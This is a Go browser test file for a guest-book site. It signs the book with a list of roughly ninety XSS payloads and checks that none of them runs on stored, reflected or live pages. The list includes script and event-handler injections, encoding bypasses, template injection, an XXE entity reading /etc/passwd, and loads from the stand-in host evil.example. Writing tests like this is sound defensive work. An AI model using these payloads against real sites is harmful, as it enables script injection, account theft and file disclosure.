package web

import (
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
)

// attacks are what people write into a guest book to make it run: from the OWASP and PortSwigger lists, one for each way in
// (tags, attributes, handlers, addresses, character sets, parsers that mend, frameworks, XML). RUN is replaced by a call that
// would be seen.
func attacks() []string {
	return []string{
		`<script>RUN</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script src=data:text/javascript,RUN></script>`,
		`<img src=x onerror=RUN>`, `<img src=//evil.example/p.png>`, `"><img src=x onerror=RUN>`, `'><img src=x onerror=RUN>`,
		`<svg onload=RUN>`, `<svg/onload=RUN>`, `<svg><script>RUN</script></svg>`, `<svg><animate onbegin=RUN attributeName=x dur=1s>`,
		`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:RUN'/></svg>#x"></use></svg>`,
		`<body onload=RUN>`, `<body onpageshow=RUN>`, `<iframe src="javascript:RUN"></iframe>`, `<iframe srcdoc="<script>parent.RUN</script>"></iframe>`,
		`<iframe src=//evil.example></iframe>`, `<object data="javascript:RUN"></object>`, `<object data=//evil.example/x.swf></object>`, `<embed src="javascript:RUN">`,
		`<a href="javascript:RUN">x</a>`, `<a href="JaVaScRiPt&colon;RUN">x</a>`, `<a href="java&#x09;script:RUN">x</a>`, `javascript:RUN`, `data:text/html,<script>RUN</script>`,
		`<form action="javascript:RUN"><input type=submit></form>`, `<button formaction="javascript:RUN">x</button>`, `<input autofocus onfocus=RUN>`, `" autofocus onfocus="RUN`, `' autofocus onfocus='RUN`,
		`<textarea autofocus onfocus=RUN>`, `</textarea><script>RUN</script>`, `</title><script>RUN</script>`, `</style><script>RUN</script>`, `--><script>RUN</script>`, `<!--<img src="--><img src=x onerror=RUN>">`,
		`<select autofocus onfocus=RUN>`, `<video><source onerror=RUN></video>`, `<video src=x onerror=RUN>`, `<audio src=x onerror=RUN>`, `<details open ontoggle=RUN>`,
		`<marquee onstart=RUN>x</marquee>`, `<meta http-equiv=refresh content="0;url=javascript:RUN">`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=prefetch href=//evil.example>`, `<base href=//evil.example/>`, `<style>@import "//evil.example/x.css";</style>`, `<style>*{background:url(//evil.example/b)}</style>`,
		`<div style="background:url(//evil.example/b)">`, `<table background=//evil.example/b>`, `<math><mi xlink:href="javascript:RUN">x</mi></math>`,
		`<noscript><p title="</noscript><img src=x onerror=RUN>">`, `<template><script>RUN</script></template>`, `<x contenteditable onfocus=RUN autofocus tabindex=1>`,
		`<ScRiPt>RUN</sCrIpT>`, `<script/x>RUN</script>`, `<<script>RUN//<</script>`, `<scr<script>ipt>RUN</scr</script>ipt>`, `%3Cscript%3ERUN%3C/script%3E`, `&lt;script&gt;RUN&lt;/script&gt;`,
		`+ADw-script+AD4-RUN+ADw-/script+AD4-`, "\u2028<script>RUN</script>\u2029", `＜script＞RUN＜/script＞`, `<img src=x:x onerror\u003dRUN>`, "<img\u00a0src=x onerror=RUN>",
		`{{constructor.constructor('RUN')()}}`, `{{.}}`, `${RUN}`, `#{RUN}`, `<%= RUN %>`, `';RUN;//`, `";RUN;//`, `\";RUN;//`, `</script><script>RUN</script>`,
		`]]><script xmlns="http://www.w3.org/1999/xhtml">RUN</script>`, `<![CDATA[<script>RUN</script>]]>`, `<?xml-stylesheet href="javascript:RUN"?>`, `<!ENTITY x SYSTEM "file:///etc/passwd">&x;`,
		`<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>`, `"}],"x":"<script>RUN</script>`, "data: x\n\nevent: parts\ndata: {\"parts\":{\"lately\":\"<img src=x onerror=RUN>\"}}\n\n",
		`<dialog open onclose=RUN><form method=dialog><button autofocus>x</button></form></dialog>`, `<img srcset="//evil.example/s 1x">`, `<input type=image src=//evil.example/i>`, `<portal src=//evil.example>`,
	}
}

// TestNothingThatIsWrittenIntoTheBookRuns signs each attack through the form of a real browser, in every field, and looks at
// every page and feed that shows it, stored, reflected and live. The browser fails the test when anything runs, is asked for
// elsewhere or had to be stopped by the policy: the escaping alone has to hold.
func TestNothingThatIsWrittenIntoTheBookRuns(t *testing.T) {
	h := newHouse()
	h.pages.Story = ringing
	h.pages.SignLimit = Limit{AtOnce: 1000, Every: 1}
	b := newBrowser(t, h)
	all := attacks()
	if len(all) < 60 {
		t.Fatalf("%d attacks", len(all))
	}
	b.cached()
	for i := range all {
		all[i] = strings.ReplaceAll(all[i], "RUN", fmt.Sprintf("top.ran=%d,alert(1)", i+1))
	}
	for i := 0; i < len(all); i += 2 { // two at a time, each once in the text and once in what stands above it
		one, two := all[i], all[(i+1)%len(all)]
		b.open("/")
		b.submit(map[string]string{"name": firstOf(two, 60), "from": firstOf(one, 60), "text": one + " " + two})
		b.until("the page of thanks", "location.pathname.startsWith('/thanks/') && document.readyState === 'complete'")
		b.unharmed("/thanks of " + one + " and " + two)
	}
	for target := "/"; target != ""; {
		b.open(target)
		b.unharmed(target)
		target = ask[string](b, `document.querySelector("a[rel=next]")?.getAttribute("href") || ""`)
	}
	for _, target := range []string{"/feed.atom", "/comments.json?limit=200", "/events.json", "/live?at=x"} {
		if target != "/live?at=x" { // which never ends loading
			b.open(target)
			b.unharmed(target)
		}
	}
	for i := 0; i < len(all); i += 9 { // addresses that lead nowhere
		b.open("/" + url.PathEscape(all[i]))
		b.unharmed("the address " + all[i])
		b.open("/?before=" + url.QueryEscape(all[i]))
		b.unharmed("the key " + all[i])
	}
	b.open("/")
	for i := 0; i < len(all); i += 2 { // reflected: the form comes back with what was wrong
		attack, other := all[i], all[(i+1)%len(all)]
		_ = ask[bool](b, "window.old = true")
		b.submit(map[string]string{"name": other, "from": other, "text": attack, "token": other, "label": attack})
		b.until("the form again", "!window.old && document.getElementById('label-problem')")
		b.unharmed("the form with " + attack + " and " + other)
		if got := ask[string](b, "document.getElementById('text').value"); strings.TrimSpace(got) != strings.TrimSpace(cleanBreaks(attack)) {
			t.Errorf("%q came back as %q", attack, got)
		}
	}
}

// cleanBreaks is what a text area makes of line breaks.
func cleanBreaks(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }

func firstOf(s string, n int) string { return string([]rune(s)[:min(len([]rune(s)), n)]) }

// submit fills in the form and sends it, without the checks of its script.
func (b *browser) submit(fields map[string]string) {
	b.t.Helper()
	words, err := json.Marshal(fields)
	if err != nil {
		b.t.Fatal(err)
	}
	_ = ask[bool](b, `(() => {
		const form = document.querySelector("form");
		for (const [name, value] of Object.entries(`+string(words)+`)) (form.querySelector("[name=" + name + "]:checked") || form.elements[name]).value = value;
		setTimeout(() => form.submit());
		return true;
	})()`)
}

// unharmed fails the test when something ran or had to be stopped.
func (b *browser) unharmed(where string) {
	b.t.Helper()
	if ran := ask[int](b, "Number(window.ran || 0)"); ran != 0 {
		b.t.Errorf("attack %d ran on %s", ran, where)
	}
	if refused := ask[[]string](b, "window.refused || []"); len(refused) > 0 {
		b.t.Errorf("the policy had to stop %q on %.100s", refused, where)
	}
	for _, crime := range b.crimes() {
		b.t.Errorf("on %.100s %s", where, crime)
	}
}

// TestWhatComesLiveIsShownAndHarmsNothing keeps a page open while others sign and while an entry is taken out.
func TestWhatComesLiveIsShownAndHarmsNothing(t *testing.T) {
	h := newHouse()
	evening(t, h)
	b := newBrowser(t, h)
	sign := func(name, text string) {
		t.Helper()
		if _, err := h.pages.Book.Sign(t.Context(), draft(name, text)); err != nil {
			t.Fatal(err)
		}
		h.signal.Notify()
	}
	b.look(1280, false)
	b.open("/")
	_ = ask[bool](b, `document.fonts.ready.then(() => { window.moved = 0; document.getElementById("text").value = "half a thought"; return true })`)
	b.do(chromedp.Focus(chromedp.CSS("#text")))
	sign("Ada", "Signed elsewhere.")
	b.until("the entry is there", `document.querySelector("[data-number='8']")`)
	if news := ask[string](b, `document.getElementById("news").textContent`); news != "Ada signed the book." {
		t.Errorf("a screen reader hears %q", news)
	}
	for i, attack := range attacks() {
		if i%10 == 0 {
			sign("Eve", strings.ReplaceAll(attack, "RUN", "top.ran=1,alert(1)"))
		}
	}
	last := len(h.comments)
	b.until("the last is there", fmt.Sprintf(`document.querySelector("[data-number='%d']")`, last))
	h.take(7)
	h.signal.Notify()
	b.until("the count is right", fmt.Sprintf(`document.querySelector(".sofar").textContent.startsWith("%d guests")`, last-1))
	b.unharmed("the live page")
	got := ask[struct {
		Moved  float64
		Kept   string
		Focus  string
		Twice  int
		Digits string
	}](b, `(() => {
		const numbers = [...document.querySelectorAll("[data-number]")].map((e) => e.dataset.number);
		return { Moved: window.moved, Kept: document.getElementById("text").value, Focus: document.activeElement.id, Twice: numbers.length - new Set(numbers).size,
			Digits: document.querySelector(".digits").textContent };
	})()`)
	if got.Moved >= 0.1 || got.Kept != "half a thought" || got.Focus != "text" || got.Twice != 0 || got.Digits != fmt.Sprintf("%06d", last+1) {
		t.Errorf("after it: %+v", got)
	}
}

// TestWhatIsReadDoesNotMoveAway scrolls into the entries of a phone and stays there while others sign.
func TestWhatIsReadDoesNotMoveAway(t *testing.T) {
	h := newHouse()
	evening(t, h)
	b := newBrowser(t, h)
	b.look(360, false)
	b.open("/")
	const place = `Math.round(document.querySelector("[data-number='4']").getBoundingClientRect().top)`
	_ = ask[bool](b, `document.fonts.ready.then(() => { document.querySelector("[data-number='4']").scrollIntoView(); return true })`)
	before := ask[int](b, place)
	_ = ask[bool](b, `(window.heard = new EventSource("/live?at=7.7"), window.heard.addEventListener("parts", () => { window.came = true }), true)`)
	if _, err := h.pages.Book.Sign(t.Context(), draft("Ada", "Signed elsewhere.")); err != nil {
		t.Fatal(err)
	}
	h.signal.Notify()
	b.until("the news has come", "window.came")
	if after := ask[int](b, place); after != before {
		t.Errorf("what was read moved from %d to %d", before, after)
	}
	_ = ask[bool](b, `(scrollTo(0, 0), true)`)
	b.until("back at the top it is shown", `document.querySelector("[data-number='8']")`)
}
